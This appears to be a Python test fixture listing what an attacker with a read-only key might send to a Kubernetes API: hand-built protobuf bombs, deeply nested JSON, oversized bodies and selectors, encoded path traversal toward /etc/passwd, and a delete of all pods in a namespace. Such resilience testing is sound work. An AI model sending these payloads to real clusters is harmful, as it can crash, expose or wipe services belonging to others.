"""What an attacker with a read-only key can ask of a run's API: huge lists and bodies, protobuf bombs, path tricks."""

import json

DOOR_PODS = 200
"""Pods of the run whose API is attacked."""
PROTOBUF, REVIEWS = "application/vnd.kubernetes.protobuf", "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews"
_TEMPLATE = {"metadata": {"labels": {"app": "web"}}, "spec": {"containers": [{"name": "app", "image": "nginx:1.27"}]}}
_SPEC = {"replicas": DOOR_PODS, "selector": {"matchLabels": {"app": "web"}}, "template": _TEMPLATE}
DOOR = json.dumps({"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "web"}, "spec": _SPEC})
Ask = tuple[str, str, bytes | None, str]
"""Method, the path below the API's address, body and its format."""


def _varint(value: int) -> bytes:
    out = b""
    while value > 127:
        out, value = out + bytes((value & 127 | 128,)), value >> 7
    return out + bytes((value,))


def _field(number: int, value: bytes) -> bytes:
    return _varint(number << 3 | 2) + _varint(len(value)) + value


def _nested(depth: int) -> bytes:
    """A message in a message in a message, as much as fits into the body of a read request."""
    body = b""
    for _ in range(depth):
        body = _field(1, body)
    return body


def _review(raw: bytes) -> bytes:
    of = _field(1, b"authorization.k8s.io/v1") + _field(2, b"SelfSubjectAccessReview")
    return b"k8s\0" + _field(1, of) + _field(2, raw)


BOMBS = (
    _review(_nested(8_000)),
    _review(_field(2, _field(1, b"\x0a\x00" * 29_000))),
    _review(b"\x12\xff\xff\xff\xff\x0f" * 9_000),
    _review(b"\x08" + b"\xff" * 60_000),
)
"""Nesting, fields, wrong lengths, and an unterminated number."""
ASKS: tuple[Ask, ...] = (
    ("GET", "/api/v1/pods", None, ""),
    ("GET", "/api/v1/events?limit=500", None, ""),
    ("GET", "/api/v1/pods?labelSelector=" + ",".join(f"k{n}!=v" for n in range(300)), None, ""),
    ("GET", "/openapi/v2", None, ""),
    ("POST", "/api/v1/namespaces/default/pods", b"[" * 60_000, "application/json"),
    ("POST", REVIEWS, b'{"a":' * 12_000, "application/json"),
    ("PATCH", "/api/v1/namespaces/default/pods/x", b"a" * 2_000_000, "application/merge-patch+json"),
    *(("POST", REVIEWS, bomb, PROTOBUF) for bomb in BOMBS),
    ("GET", "/api/v1/namespaces/default/pods/..%2f..%2f..%2fetc%2fpasswd/log", None, ""),
    ("GET", "/api/v1/../../../../r/", None, ""),
    ("GET", "/api/v1/" + "namespaces/" * 500, None, ""),
    ("GET", "/api/v1/pods?continue=" + "A" * 8000, None, ""),
    ("DELETE", "/api/v1/namespaces/default/pods", None, ""),
)
